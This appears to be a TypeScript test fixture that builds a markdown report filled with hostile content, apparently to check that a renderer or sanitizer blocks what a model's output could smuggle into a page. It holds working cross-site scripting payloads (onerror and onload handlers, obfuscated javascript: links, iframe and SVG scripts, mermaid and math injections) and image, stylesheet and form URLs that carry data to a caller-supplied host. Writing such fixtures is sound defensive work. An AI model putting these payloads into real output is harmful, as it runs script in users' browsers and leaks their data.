/** What a model could write to have a page run something, or carry something away to a host. */
export function hostileMarkdown(host: string): string {
  return [
    "# The report",
    `Inline ![a](${host}/inline.png?d=secret), by reference ![b][far], in a link [![c](${host}/nested.png)](${host}/link).`,
    `[far]: ${host}/reference.png`,
    `<img src="${host}/html.png" onerror="alert(1)"> <img/src="x"/onerror=alert(2)>`,
    `<svg onload=alert(3)><image href="${host}/svg.png"/></svg>`,
    `<iframe srcdoc="<script>alert(4)</script>"></iframe> <iframe src="${host}/frame"></iframe>`,
    `<link rel="stylesheet" href="${host}/style.css"> <style>@import url(${host}/import.css);</style>`,
    `<div style="background:url(${host}/background.png)">styled</div>`,
    `<script>alert(5)</script> <script src="${host}/script.js"></script>`,
    `<meta http-equiv="refresh" content="0;url=${host}/refresh"> <base href="${host}/">`,
    `<form action="${host}/form"><input name=a value=b autofocus onfocus=alert(6)></form>`,
    `<video src="${host}/video.mp4" autoplay></video> <object data="${host}/object"></object>`,
    "[one](javascript:alert(7)) [two](data:text/html,<script>alert(8)</script>) [three](vbscript:alert(9))",
    "[four](JaVaScRiPt:alert(10)) [five](&#106;avascript:alert(11)) [six](\u0001javascript:alert(12))",
    `[your bank](${host}/phishing) <${host}/autolink> ${host}/bare [seven](//${new URL(host).host}/scheme-relative)`,
    "![d](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMTMpIi8+)",
    `Math $\\href{javascript:alert(14)}{x}$ $\\includegraphics{${host}/math.png}$ $$\\htmlStyle{background:url(${host}/m)}{y}$$`,
    '```mermaid\ngraph TD; A-->B; click A "javascript:alert(15)"\n```',
    `| table | <img src=x onerror=alert(16)> |\n|---|---|\n| ![e](${host}/table.png) | [x](javascript:alert(17)) |`,
    "[^1]: <img src=x onerror=alert(18)>",
    "The end of the report.",
  ].join("\n\n");
}
